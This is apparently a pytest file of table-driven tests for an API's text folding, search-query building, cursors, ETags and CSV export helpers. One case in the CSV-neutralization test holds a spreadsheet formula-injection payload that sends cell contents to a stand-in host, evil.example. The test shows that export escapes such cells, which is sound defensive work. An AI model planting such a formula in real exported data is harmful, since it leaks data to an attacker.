"""The pure helpers, from tables of cases: text folding and search tokens, sentences, search
queries, cursors, date branches' parameters, and CSV cells."""

from dataclasses import replace
from datetime import date
from typing import Any

import orjson
import pytest
from starlette.datastructures import URL

from api.compression import vary_by_encoding
from api.database import Memo
from api.errors import InvalidCursor, InvalidParameter
from api.paging import PageRequest, decode_cursor, filters_fingerprint
from api.queries.common import (
    ITEM_INDENT,
    DateRange,
    StoredDocument,
    member_written,
    nested_list,
)
from api.queries.dates import date_params
from api.query_string import normalize
from api.responses import etag_matches, flatten, neutralize, page_urls
from api.search import (
    SearchQuery,
    estimated_matches,
    match_expression,
    row_by_row_pays,
    sifted,
)
from api.text import compounds, search_tokens, sentence_around, sentence_breaks, token, words


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Abdel Fatah El-Sisi", ["abdel", "fatah", "el", "sisi"]),
        ("El-Sísi", ["el", "sisi"]),
        ("Hamas’s court", ["hamas", "s", "court"]),
        ("“Yes,” he said", ["yes", "he", "said"]),
        ("U.S. officials", ["us", "officials"]),
        ("US officials", ["us", "officials"]),
        ("a U.S. ally", ["a", "us", "ally"]),  # the "a" stays a word of its own
        ("14-0, a U.S.-sponsored resolution", ["14", "0", "a", "us", "sponsored", "resolution"]),
        ("the U.S", ["the", "us"]),
        ("e.g. this", ["eg", "this"]),
        ("William J. Burns", ["william", "j", "burns"]),
        ("a b c", ["a", "b", "c"]),  # single letters with spaces are not initials
        ("Straße", ["strasse"]),
        ("written➀guarantee", ["written➀guarantee"]),  # a number sign is a word character
        ("snake_case", ["snake", "case"]),
        ("", []),
    ],
)
def test_words_fold_case_accents_punctuation_and_initials(text: str, expected: list[str]) -> None:
    assert words(text) == expected


@pytest.mark.parametrize(
    ("word", "expected"),
    [
        ("hostages", "hostages"),
        ("2024", "2024"),
        ("xylophone", "xxylophone"),  # x is doubled: "x" starts the spelling of other letters
        ("ש", "x005e9"),
        ("אב", "x005d0x005d1"),
        ("日本", "x065e5x0672c"),
    ],
)
def test_a_token_spells_a_word_in_ascii_letters_and_digits(word: str, expected: str) -> None:
    assert token(word) == expected


def test_a_prefix_of_a_word_is_spelled_as_a_prefix_of_its_token() -> None:
    for word in ("xylophone", "אבג", "naïve", "日本語"):
        for end in range(1, len(words(word)[0]) + 1):
            prefix = words(word)[0][:end]
            assert token(words(word)[0]).startswith(token(prefix))


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("the cease-fire deal", {"ceasefire": "cease fire"}),
        ("a U.S.-sponsored resolution", {}),  # the hyphen follows a period: not one word
        ("14-0", {"140": "14 0"}),
        ("long-term, well-known", {"longterm": "long term", "wellknown": "well known"}),
        ("no compound here", {}),
    ],
)
def test_compounds_are_the_hyphenated_words_run_together(
    text: str, expected: dict[str, str]
) -> None:
    assert compounds(text) == expected


@pytest.mark.parametrize(
    ("text", "span", "sentence"),
    [
        ("One. Two three. Four.", "three", "Two three."),
        ("Gen. Smith spoke. Then he left.", "spoke", "Gen. Smith spoke."),
        ("William J. Burns met them. Later.", "Burns", "William J. Burns met them."),
        ("Aid from the U.S. Army arrived. Next.", "Army", "Aid from the U.S. Army arrived."),
        ("“Yes,” he said. “No.” She left.", "he said", "“Yes,” he said."),
        ("Headline\n\nBody starts here. More.", "Body", "Body starts here."),
        ("First. Second spans. Third.", "Second spans. Third", "Second spans. Third."),
    ],
)
def test_the_sentence_of_a_span_holds_it_whole(text: str, span: str, sentence: str) -> None:
    start = text.index(span)
    begin, end = sentence_around(text, start, start + len(span), sentence_breaks(text))
    assert text[begin:end] == sentence


@pytest.mark.parametrize(
    ("query", "fts5", "tsquery"),
    [
        ("hostage", '("hostage"*)', "((hostage:*))"),
        ("written guarantee", '("written"*) AND ("guarantee"*)', "((written:*)) & ((guarantee:*))"),
        # A phrase of two words is one token of either index (migrations 0008 and 0009); a
        # longer one, its pairs and its words in a row.
        ('"say yes"', '("_say_yes")', "(('say yes'))"),
        ("cease-fire", '("_cease_fire"* OR "ceasefire"*)', "(('cease fire':*) | (ceasefire:*))"),
        (
            '"we say yes"',
            '(("_we_say" AND "_say_yes" AND "we say yes"))',
            "(('we say' & 'say yes' & (we <-> say <-> yes)))",
        ),
        (
            "long-term-ish",
            '(("_long_term" AND "_term_ish"* AND "long term ish"*) OR "longtermish"*)',
            "(('long term' & 'term ish':* & (long <-> term <-> ish:*)) | (longtermish:*))",
        ),
        ("hamas OR israel", '("hamas"*) AND ("or"*) AND ("israel"*)', None),
        ("U.S.", '("us"*)', "((us:*))"),
    ],
)
def test_a_search_is_its_words_in_each_database_s_syntax(
    query: str, fts5: str, tsquery: str | None
) -> None:
    parsed = SearchQuery.parse(query)
    assert match_expression("sqlite", parsed) == fts5
    if tsquery is not None:
        assert match_expression("postgresql", parsed) == tsquery


@pytest.mark.parametrize(
    ("query", "row_by_row"),
    [
        ("ba", True),  # a prefix FTS5 keeps merged (2 to 4 letters)
        ("baba lila", True),
        ("b", False),  # too short to be kept merged
        ("babam", False),  # long enough to begin few words, so not kept merged
        ('"say yes"', True),  # whole words: no prefix
        ('"say yes" hostage', False),
        ("cease-fire", False),  # neither "_cease_fire"* nor "ceasefire"* is kept merged
        ("a-b", True),  # "_a_b"* and "ab"*: of four letters and of two
        ("9-1-1", False),  # "_1_1"* is kept merged, but "9 1 1"* also asks for "1"*
        ("U.S.", True),
    ],
)
def test_a_search_is_asked_row_by_row_when_its_prefixes_are_kept_merged(
    query: str, row_by_row: bool
) -> None:
    assert SearchQuery.parse(query).asked_row_by_row() == row_by_row


@pytest.mark.parametrize(
    ("query", "whole", "words"),
    [
        ("bete", set(), ([], ["bete"])),  # a prefix: every word it begins
        ("bete", {"bete"}, (["bete"], [])),  # begins no other word: itself
        ('"bete"', set(), (["bete"], [])),  # a quoted word is whole
        ("Bête!", set(), ([], ["bete"])),  # folded as the index holds it
        ("cease-fire", {"ceasefire"}, (["ceasefire"], [])),  # a pair of words bounds nothing
        ('"say yes"', set(), ([], [])),  # a phrase: fewer rows than either word
        ("bete bala", set(), ([], [])),  # two words: fewer rows than either
        ("b" * 300, set(), ([], [])),  # search_words may keep it cut
        ("b" * 299, set(), ([], ["b" * 299])),
        ("1e5abc", set(), ([], [])),  # PostgreSQL's words: 1e5 and abc
        ("1abc", set(), ([], ["1abc"])),
    ],
)
def test_a_search_of_one_clause_finds_at_least_the_rows_of_each_of_its_words(
    query: str, whole: set[str], words: tuple[list[str], list[str]]
) -> None:
    assert replace(SearchQuery.parse(query), whole=frozenset(whole)).single_words() == words


@pytest.mark.parametrize(
    ("query", "whole", "fts5", "tsquery", "row_by_row"),
    [
        # begins no other word of the data
        ("babamolo", {"babamolo"}, '("babamolo")', "((babamolo))", True),
        ("babamolo", set(), '("babamolo"*)', "((babamolo:*))", False),
        (
            "babamolo hostage",
            {"babamolo"},
            '("babamolo") AND ("hostage"*)',
            "((babamolo)) & ((hostage:*))",
            False,
        ),
        (
            "cease-fire",
            {"ceasefire"},
            '("_cease_fire"* OR "ceasefire")',
            "(('cease fire':*) | (ceasefire))",
            False,
        ),
        ('"say yes"', {"yes"}, '("_say_yes")', "(('say yes'))", True),
    ],
)
def test_a_word_that_begins_no_other_word_of_the_data_is_asked_for_as_itself(
    query: str, whole: set[str], fts5: str, tsquery: str, row_by_row: bool
) -> None:
    parsed = replace(SearchQuery.parse(query), whole=frozenset(whole))
    assert match_expression("sqlite", parsed) == fts5
    assert match_expression("postgresql", parsed) == tsquery
    assert parsed.asked_row_by_row() == row_by_row


@pytest.mark.parametrize(
    ("matches", "rows", "pays"),
    [
        (962_358, 1_000_000, True),  # q=baba at 1M: 8 ms a page row by row
        (207_693, 1_000_000, True),
        (6_461, 1_000_000, False),  # q=lebi at 1M: 1,054 ms row by row, 12 ms from the set
        (9_500, 10_000, False),  # at 10k, building the set always costs less
    ],
)
def test_a_search_is_asked_row_by_row_only_when_most_rows_match(
    matches: int, rows: int, pays: bool
) -> None:
    assert row_by_row_pays(matches, rows) == pays


# Keys of the full-text index (api.search.KEY): a day number, then an id below 2**32.
DAY = 2**32
FIRST = 738_000 * DAY


@pytest.mark.parametrize(
    ("sample", "first_reach", "last_reach", "keys", "estimated"),
    [
        (5_001, 7_576, 992_426, (1, 1_000_000), 660_000),  # two thirds of the rows, evenly
        (5_001, 5_001, 995_000, (1, 1_000_000), 1_000_000),  # every row matches
        (5_001, 10_002, 5_002, (1, 1_000_000), 5_001),  # only the oldest rows: as rare as new
        (5_001, 990_000, 990_000, (1, 1_000_000), 5_051),  # only the newest rows: rare
        # Keys over a thousand days: a word in (nearly) every row of the first and last week.
        (5_001, FIRST + 6 * DAY, FIRST + 992 * DAY, (FIRST, FIRST + 999 * DAY), 713_713),
        (5_001, FIRST + 6 * DAY, FIRST + 6 * DAY, (FIRST, FIRST + 999 * DAY), 5_001),
    ],
)
def test_how_many_rows_match_is_estimated_from_the_sparser_end_of_the_keys(
    sample: int, first_reach: int, last_reach: int, keys: tuple[int, int], estimated: int
) -> None:
    assert estimated_matches(sample, first_reach, last_reach, keys, 1_000_000) == pytest.approx(
        estimated, rel=0.01
    )


@pytest.mark.parametrize("query", ["", "%%% ***", '""', "-", "“”"])
def test_a_search_without_words_is_an_invalid_parameter(query: str) -> None:
    with pytest.raises(InvalidParameter):
        SearchQuery.parse(query)


@pytest.mark.parametrize(
    ("raw", "normalized"),
    [
        ("q=&speaker=", ""),
        ("q=hamas&_=1700000000", "q=hamas"),
        ("utm_source=newsletter&speaker=blinken", "speaker=blinken"),
        ("stance=supports,demands", "stance=supports&stance=demands"),
        ("speaker=blinken&speaker=hamas", "speaker=blinken&speaker=hamas"),
        ("speaker=blinken,+", "speaker=blinken"),
        ("q=a,b", "q=a%2Cb"),  # a search keeps its commas
        ("location=Cairo,+Egypt", "location=Cairo%2C+Egypt"),
        ("cursor=+++", ""),
        # Longer than any limit allows: sent on as it is, for the limit to refuse.
        ("cursor=" + "%1C" * 501, "cursor=" + "%1C" * 501),
        ("q=+" + "a" * 300 + "+", "q=+" + "a" * 300 + "+"),
    ],
)
def test_a_query_string_means_what_a_browser_means_by_it(raw: str, normalized: str) -> None:
    assert normalize(raw) == normalized


def _request(cursor: str | None = None, **changes: Any) -> PageRequest:
    fields: dict[str, Any] = {
        "listing": "/statements",
        "filters": filters_fingerprint([("speaker", "blinken")]),
        "sort": "date",
        "limit": 50,
        "cursor": cursor,
    }
    return PageRequest(**{**fields, **changes})


@pytest.mark.parametrize(
    "key",
    [
        ("2024-06-10", 12),
        ("2024-06-10", 0, 7),
        ("abdel fatah el sisi", 5),
    ],
)
def test_a_cursor_gives_back_the_key_it_was_made_with(key: tuple[Any, ...]) -> None:
    types = [date if "-" in str(v) and str(v)[:4].isdigit() else type(v) for v in key]
    made = _request().cursor_to("next", key)
    decoded = decode_cursor(_request(made), types)
    assert decoded.direction == "next"
    assert [str(v) for v in decoded.key] == [str(v) for v in key]


@pytest.mark.parametrize(
    "changes",
    [
        {"listing": "/events"},
        {"filters": filters_fingerprint([("speaker", "hamas")])},
        {"sort": "-date"},
    ],
)
def test_a_cursor_is_refused_by_another_list_filter_or_sort(changes: dict[str, Any]) -> None:
    made = _request().cursor_to("next", ("2024-06-10", 12))
    with pytest.raises(InvalidCursor):
        decode_cursor(_request(made, **changes), [date, int])


@pytest.mark.parametrize(
    "key", [("2024-13-01", 1), ("2024-06-10", "1"), ("2024-06-10", 2**63), ("2024-06-10",)]
)
def test_a_cursor_with_a_key_of_the_wrong_type_is_refused(key: tuple[Any, ...]) -> None:
    made = _request().cursor_to("next", key)
    with pytest.raises(InvalidCursor):
        decode_cursor(_request(made), [date, int])


def test_the_same_filters_in_another_order_have_the_same_fingerprint() -> None:
    one = filters_fingerprint([("speaker", "a"), ("q", "b"), ("limit", "5")])
    other = filters_fingerprint([("q", "b"), ("speaker", "a"), ("cursor", "x")])
    assert one == other


@pytest.mark.parametrize(
    ("dates", "params"),
    [
        (DateRange(None, None), {}),
        (DateRange(None, date(2024, 6, 10)), {"date_to": date(2024, 6, 10)}),
        (
            DateRange(date(2024, 6, 10), date(2024, 6, 12)),
            {
                "date_from": date(2024, 6, 10),
                "short_from": date(2024, 5, 10),
                "date_to": date(2024, 6, 12),
            },
        ),
        (DateRange(date(1, 1, 2), None), {"date_from": date(1, 1, 2), "short_from": date(1, 1, 1)}),
    ],
)
def test_a_date_range_binds_its_branches_parameters(
    dates: DateRange, params: dict[str, date]
) -> None:
    assert date_params(dates) == params


@pytest.mark.parametrize(
    ("document", "row"),
    [
        ({"a": 1, "b": None}, {"a": "1", "b": ""}),
        ({"speaker": {"slug": "x", "name": "X"}}, {"speaker.slug": "x", "speaker.name": "X"}),
        ({"direct": True, "anonymous": False}, {"direct": "true", "anonymous": "false"}),
        ({"terms": [{"slug": "a"}, {"slug": "b"}]}, {"terms": "a; b"}),
        (
            {"participants": [{"actor": {"slug": "x"}, "role": "host"}]},
            {"participants": "x (host)"},
        ),
        ({"aliases": [{"name": "Blinken", "evidence": {}}]}, {"aliases": "Blinken"}),
        ({"titles": ["Secretary", "Envoy"]}, {"titles": "Secretary; Envoy"}),
    ],
)
def test_a_document_flattens_into_one_spreadsheet_row(
    document: dict[str, Any], row: dict[str, str]
) -> None:
    assert flatten(document) == row


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (
            '=HYPERLINK("https://evil.example/?"&A1,"click")',
            '\'=HYPERLINK("https://evil.example/?"&A1,"click")',
        ),
        ("+1 555 0100", "'+1 555 0100"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTab", "'\tTab"),
        ("\rReturn", "'\rReturn"),
        ("Hamas said yes", "Hamas said yes"),
        ("", ""),
        ("2024-06-10", "2024-06-10"),
    ],
)
def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(
    cell: str, written: str
) -> None:
    assert neutralize(cell) == written


def test_search_tokens_keep_the_words_in_order() -> None:
    assert search_tokens("Hamas’s written guarantee, from Israel") == (
        "hamas s written guarantee from israel"
    )


@pytest.mark.parametrize(
    ("if_none_match", "matches"),
    [
        ('W/"abc"', True),
        ('"abc"', True),  # a client that kept the tag without its W/
        ('W/"other", W/"abc"', True),
        ("*", True),
        ('W/"abcd"', False),
        ('W/"ab"', False),
        ("", False),
    ],
)
def test_an_etag_matches_if_none_match_by_weak_comparison(
    if_none_match: str, matches: bool
) -> None:
    assert etag_matches('W/"abc"', if_none_match) is matches


NESTED_CASES: list[Any] = [
    {},
    {"id": 1, "text": "“Yes”, she said.\nThen: é", "terms": [], "date": {"start": "2024-06-10"}},
    {"participants": [{"actor": {"slug": "a"}, "role": "host"}], "about": [[1, [2]], None]},
    {"event": {"date": 1, "id": [{"date": 2}]}, "date": None, "id": '",\n  "date": 3'},
]


@pytest.mark.parametrize("depth", [0, 1, 2, 3, 4])
@pytest.mark.parametrize("count", [0, 1, 3])
def test_stored_documents_copied_into_an_answer_are_written_as_if_parsed(
    depth: int, count: int
) -> None:
    """A page copies its stored documents as text (StoredDocument): the bytes must be those of
    the same documents parsed and written again, at any depth, one or many, or none."""
    documents = NESTED_CASES[:count]

    def at_depth(value: Any) -> Any:
        for _ in range(depth):
            value = {"items": value}
        return value

    expected = orjson.dumps(at_depth(documents), option=orjson.OPT_INDENT_2)
    stored = [StoredDocument.of(document) for document in documents]
    assert orjson.dumps(at_depth(nested_list(stored, depth)), option=orjson.OPT_INDENT_2) == (
        expected
    )
    for document, one in zip(documents, stored, strict=True):
        alone = orjson.dumps(at_depth(document), option=orjson.OPT_INDENT_2)
        nested = orjson.Fragment(one.at(depth))
        assert orjson.dumps(at_depth(nested), option=orjson.OPT_INDENT_2) == alone
        assert one.document() == document


@pytest.mark.parametrize("head", [{}, {"type": "event"}, {"type": "event", "date": {"a": [1]}}])
@pytest.mark.parametrize("document", NESTED_CASES)
def test_a_stored_document_as_the_last_member_of_another_is_written_as_if_parsed(
    head: dict[str, Any], document: Any
) -> None:
    """The timeline's items: the fact's stored document under its kind, after `type` and
    `date`, copied, not parsed."""
    written_head = "".join(
        member_written(name, StoredDocument.of({name: value}).member(name))
        for name, value in head.items()
    )
    item = StoredDocument.of(document).member_of(written_head, "event")
    whole = {**head, "event": document}
    assert item == StoredDocument.of(whole)
    assert item.document() == whole


@pytest.mark.parametrize("name", ["id", "text", "terms", "date", "event", "participants", "about"])
@pytest.mark.parametrize("document", NESTED_CASES)
def test_a_member_of_a_stored_document_is_copied_as_it_would_be_written_there(
    name: str, document: Any
) -> None:
    """A timeline item's date is its fact's, copied from the fact's stored document: the text
    of one member, first, last or between others, whatever it holds."""
    if name not in document:
        with pytest.raises(ValueError):
            StoredDocument.of(document).member(name)
        return
    copied = StoredDocument.of(document).member(name)
    assert StoredDocument(f'{{\n{ITEM_INDENT}  "{name}": {copied}\n{ITEM_INDENT}}}') == (
        StoredDocument.of({name: document[name]})
    )


@pytest.mark.parametrize(
    "url",
    [
        "http://api.example/statements",
        "http://api.example/statements?speaker=blinken",
        "http://api.example/statements?cursor=eyJsaXN0Ijoi&speaker=blinken",
        "http://api.example/statements?speaker=blinken&cursor=eyJsaXN0Ijoi",
        "http://api.example/statements?q=cease+fire&sort=-date&limit=3",
        "http://api.example/statements?q=%22cease%20fire%22&from=",
        "http://api.example/timeline?actor=hamas&actor=isra%C3%ABl",
        "https://api.example:8443/root/events?cursor=a&cursor=b",
    ],
)
@pytest.mark.parametrize(
    "cursors", [("eyJsaXN0IjoiL3N0YXRlbWVudHMifQ", None), (None, "a-b_c"), (None, None)]
)
def test_a_page_links_its_neighbours_as_starlette_would_add_their_cursor(
    url: str, cursors: tuple[str | None, str | None]
) -> None:
    without = URL(url).remove_query_params("cursor")
    expected = {
        "next": str(without.include_query_params(cursor=cursors[0])) if cursors[0] else None,
        "prev": str(without.include_query_params(cursor=cursors[1])) if cursors[1] else None,
        "first": str(without),
    }
    assert page_urls(URL(url), *cursors) == expected


@pytest.mark.parametrize(
    ("headers", "expected"),
    [
        ([], [(b"vary", b"Accept-Encoding")]),
        (
            [(b"content-type", b"text/csv"), (b"Vary", b"Origin")],
            [(b"content-type", b"text/csv"), (b"vary", b"Origin, Accept-Encoding")],
        ),
    ],
)
def test_an_answer_that_varies_by_encoding_says_so_after_what_it_already_varies_by(
    headers: list[tuple[bytes, bytes]], expected: list[tuple[bytes, bytes]]
) -> None:
    assert vary_by_encoding(headers) == expected


@pytest.mark.parametrize(
    ("estimates", "read"),
    [
        ([1_633], [True]),  # one clause: read from the index
        ([992_008, 1_633], [False, True]),  # `baba talu` at 1M: baba checked on talu's rows
        ([6_188, 661_063], [True, False]),
        ([50_000, 50_000], [True, True]),  # together they leave 2,500 rows: both read
        ([900, 20_000, 800_000], [True, False, False]),
        ([5_000, 40_000, 9_000], [True, False, True]),  # the first and last leave 45 rows
        ([20_000_000], [True]),  # the rarest is read whatever the figures (out of date ones)
    ],
)
def test_postgresql_checks_a_clause_of_many_rows_on_the_rows_of_the_rarer_ones(
    estimates: list[float], read: list[bool]
) -> None:
    assert sifted(estimates, 1_000_000) == read


def test_a_memo_forgets_an_entry_once_its_seconds_are_past() -> None:
    kept, expired = Memo(seconds=60), Memo(seconds=0)
    for memo in (kept, expired):
        memo.put("word", 12.0)
    assert (kept.get("word"), expired.get("word")) == (12.0, None)


def test_a_memo_past_its_size_forgets_the_least_recently_used_entry() -> None:
    memo = Memo(size=2)
    memo.put("a", 1)
    memo.put("b", 2)
    memo.get("a")
    memo.put("c", 3)
    assert [memo.get(key) for key in "abc"] == [1, None, 3]
